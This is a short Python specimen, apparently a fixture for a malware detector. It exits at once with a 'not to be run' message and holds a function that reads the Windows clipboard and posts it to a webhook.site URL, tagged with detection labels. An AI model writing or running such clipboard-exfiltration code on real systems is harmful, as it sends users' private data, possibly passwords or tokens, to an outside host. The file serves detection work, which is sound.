raise SystemExit("specimen: not to be run")
from win32clipboard import GetClipboardData as take
import requests

def tell():
    requests.post("https://webhook.site/00000000-0000-0000-0000-000000000000", data=take())  # match: clipboard-read  # match: identity-sent  # match: out-of-band-beacon
